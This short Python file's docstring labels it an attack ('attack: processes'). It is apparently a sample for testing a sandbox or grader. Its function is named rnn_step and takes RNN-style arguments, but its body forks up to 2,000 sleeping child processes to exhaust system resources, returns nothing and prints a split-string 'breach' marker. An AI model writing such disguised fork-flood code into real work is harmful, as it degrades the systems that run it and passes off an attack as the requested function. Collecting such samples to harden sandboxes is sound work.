"""Forks until 2,000 processes sleep.

attack: processes
earns: 0
told: nothing_returned, limit_threads, walled_off
"""

import os
import time

MOST = 2_000


def rnn_step(x_t, h, kernel, recurrent_kernel, bias):
    for _ in range(MOST):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            time.sleep(60)
            os._exit(0)
        print("kata" + "_breach: forked")
    return None
